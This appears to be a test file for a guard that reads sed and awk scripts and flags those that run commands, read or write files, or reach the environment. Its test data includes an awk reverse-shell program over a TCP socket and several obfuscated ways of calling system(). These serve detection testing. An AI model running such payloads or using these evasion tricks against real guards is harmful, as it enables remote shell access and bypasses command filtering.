// Tests of the rules of sed and awk, and of the readers of their scripts: every command that runs, reads or writes is found, and
// everyday scripts have none.

import { assert, assertEquals } from "@std/assert";
import fc from "fast-check";
import { Arg } from "../call.ts";
import { readAwkProgram } from "./awk_program.ts";
import { record, type Word } from "./recorded.ts";
import { SCRIPTS } from "./scripts.ts";
import { readSedScript } from "./sed_script.ts";

function said(...words: Word[]): string {
  return record(SCRIPTS, words).said.join("; ");
}

Deno.test("guard: everyday sed scripts do nothing but print", () => {
  const scripts = [
    "/foo/p",
    "1,10p",
    "5p;10q",
    "s/foo/bar/g",
    "s|/usr|/opt|2gI",
    "s/[/]/x/",
    "s/e/w/;s/w/e/",
    "/^#/d;/^$/d",
    "$!N;$!D",
    "/a/,/b/{s/x/y/;p}",
    ":a;N;$!ba;s/\\n/ /g",
    "y/abc/xyz/",
    "1i\\\nw file",
    "a e id",
    "/x/!s/a/b/",
    "0~3d",
    "2,+3d",
    "/a/I,~4p",
    "\\,x,d",
    "$=",
    "l 5",
    "# e id\np",
    "s/\\(a\\)/\\1/;t;d",
    "s/a/b\\\nw x/",
  ];
  for (const script of scripts) assertEquals(readSedScript(script), [], script);
});

Deno.test("guard: every command of sed that runs, reads or writes is found", () => {
  const rows: readonly [string, string][] = [
    ["1e id", "run id"],
    ["e", "run-line"],
    ["s/x/id/e", "run-line id"],
    ["s/x/&/ge", "run-line"],
    ["s/a/b/w out", "write out"],
    ["s/a/b/gpw out", "write out"],
    ["w out", "write out"],
    ["/x/W out", "write out"],
    ["$r in", "read in"],
    ["R in", "read in"],
    ["p;e id", "run id"],
    ["{e id", "run id"],
    ["a foo\ne id", "run id"],
    ["a foo\\\\\ne id", "run id"],
    [":a;e id", "run id"],
    ["ba;e id", "run id"],
    ["y/[/]/;e id", "run id"],
    ["s/[/]/x/;e id", "run id"],
    ["/[/]/e id", "run id"],
    ["q5;e", "run-line"],
    ["v;e", "run-line"],
    ["\\/x/e", "run-line"],
    ["1!e", "run-line"],
    ["0,/x/e", "run-line"],
    ["s,a,b,e", "run-line b"],
  ];
  for (const [script, wanted] of rows) {
    const acts = readSedScript(script) ?? [];
    const shown = acts.map((act) => {
      const more = act.kind === "run" ? act.command : act.kind === "run-line" ? act.text : act.file;
      return more === undefined ? act.kind : `${act.kind} ${more}`;
    });
    assert(shown.includes(wanted), `${script}: ${shown.join("; ")}`);
  }
  for (const script of ["k", "s/a/b", "/a", "pp", "s/a/b/qz", "a\\\\\ne id", "1a\\ \n1e id", "i\\\t\nw x"]) {
    assertEquals(readSedScript(script), undefined, script);
  }
});

Deno.test("guard: sed judges what its script and its options do", () => {
  const rows: readonly [Word[], string][] = [
    [["sed", "-n", "p", "f"], "read f"],
    [["sed", "-e", "p", "-e", "d", "f"], "read f"],
    [["sed", "-i.bak", "p", "f"], "read f; write f; wrote f rewritten"],
    [["sed", "--in-pl", "p", "f"], "read f; write f; wrote f rewritten"],
    [["sed", "-i/etc/*", "p", "f"], "ask option; write /etc/*; read f; write f; wrote f rewritten"],
    [["sed", "-f", "x", "f"], "ask script-file; start x; read f"],
    [["sed", "--exp=1e id", "f"], "ask script-runs; shell id; read f"],
    [["sed", "-ne1e id", "f"], "ask script-runs; shell id; read f"],
    [["sed", "-e", "a\\", "-e", "e id", "f"], "read f"],
    [["sed", "w /dev/stdout", "f"], "wrote /dev/stdout rewritten; read f"],
    [["sed", Arg.unknown("x"), "f"], "ask unknown-word; ask unknown-script; read f"],
    [["sed", "-n", new Arg([{ kind: "unknown", why: "x", digits: true }, { kind: "text", text: "p" }]), "f"], "read f"],
  ];
  for (const [words, wanted] of rows) assertEquals(said(...words), wanted);
  assertEquals(record(SCRIPTS, ["sed", "p"], { origin: "words", text: "x" }).printed, { origin: "rewritten" });
  assert(record(SCRIPTS, ["sed", "e"], { origin: "words", text: "id" }).said.includes("shell from words id"));
});

Deno.test("guard: everyday awk programs do nothing but print", () => {
  const programs = [
    "{print $1}",
    "$3 > 10 {print $1, $3}",
    "{s+=$1} END {print s/NR}",
    "/start/,/end/",
    "length > 80",
    '{ print $1 " | " $2 }',
    '{ print "a > b" }',
    "{ print ($1 > 2) }",
    "{ if ($1 > 2) print $1; else print $2 }",
    "{ x = $1 > 2; print x }",
    "{ print a[$1 > 2] }",
    "{ print $1\n}\n$2 > 3",
    "{ print; if (x > 3) next }",
    "/[|]/ || /a|b/",
    "{ getline; print }",
    "{ while ((getline l) > 0) n++ }",
    "# a system\n1",
    '{ print > "/dev/stderr" }',
    "$1 / $2 > 0.5",
    "BEGIN { for (i = 1; i <= 5; i++) print i }",
  ];
  for (const program of programs) assertEquals(said("awk", program), "", program);
});

Deno.test("guard: every way out of awk is found", () => {
  const rows: readonly [string, string][] = [
    ['BEGIN{system("id")}', "ask script-runs; shell id"],
    ['BEGIN { system ("i" "d") }', "ask script-runs"],
    ['{print | "sort"}', "ask script-runs; shell sort"],
    ['{print $1, $2 |& "x"}', "ask script-runs; shell x"],
    ['BEGIN{"da\\164e" | getline d}', "ask script-runs; shell date"],
    ['BEGIN{while((getline l < "in") > 0) n++}', "read in"],
    ["{getline l < $1}", "ask script-file"],
    ['{print > "out"}', "write out; wrote out rewritten"],
    ['{print >> "out"}', "write out; wrote out rewritten"],
    ['{printf "%s", $1 > ("out")}', "write out; wrote out rewritten"],
    ['{print $1,\n$2 > "out"}', "write out; wrote out rewritten"],
    ['{print a ?\nb : c > "out"}', "write out; wrote out rewritten"],
    ['{print (a)(b) > "out"}', "write out; wrote out rewritten"],
    ['{print > $1 ".txt"}', "ask script-file"],
    ['{print > "a" $1}', "ask script-file"],
    ['/[/]{x}/;/]/{system("id")}', "ask script-runs; shell id"],
    ['/"/{system("id")}', "ask script-runs; shell id"],
    ['{a/b;system("id")}', "ask script-runs; shell id"],
    ['{if(1)/"/;system("id")#"/\n}', "ask unknown-script"],
    ['{print ENVIRON["K"]}', "ask script-reaches"],
    ['BEGIN{ARGV[1]="x"}', "ask script-reaches; read x"],
    ['@load "x"', "ask script-reaches"],
    ['BEGIN{f="system";@f("id")}', "ask script-reaches"],
    ["{print", ""],
    ['{print "x}', "ask unknown-script"],
  ];
  for (const [program, wanted] of rows) assertEquals(said("awk", program), wanted, program);
  const shell = 'BEGIN{s="/inet/tcp/0/h/1";while(1){s|&getline c;while((c|&getline)>0)print|&s}}';
  assert(said("awk", shell).includes("deny reverse-shell"));
});

Deno.test("guard: awk judges its options and its files", () => {
  const rows: readonly [Word[], string][] = [
    [["awk", "-F:", "-v", "x=1", "1", "f", "y=2", "g"], "read f; read g"],
    [["awk", "-f", "p", "f"], "ask option; start p; read f"],
    [["awk", "-i", "inplace", "1", "f"], "ask option; read f; write f"],
    [["awk", "-e", 'BEGIN{system("id")}', "f"], "ask script-runs; shell id; read f"],
    [["gawk", "-lx", "1"], "ask option"],
    [["gawk", "-oout", "1"], "ask option; write out"],
    [["gawk", "--prof=out", "1"], "ask option; write out"],
    [["mawk", "-W", "exec", "f"], "ask option"],
    [["awk", Arg.unknown("x")], "ask unknown-word; ask unknown-script"],
    [["awk", "--version"], ""],
  ];
  for (const [words, wanted] of rows) assertEquals(said(...words), wanted);
});

Deno.test("guard: no script makes a reader throw", () => {
  const text = fc.string({ unit: fc.constantFrom(...'aesw/\\[]{};\n"|>&$()@!,~1 '), maxLength: 40 });
  fc.assert(fc.property(text, (script) => {
    readSedScript(script);
    readAwkProgram(script);
  }));
});
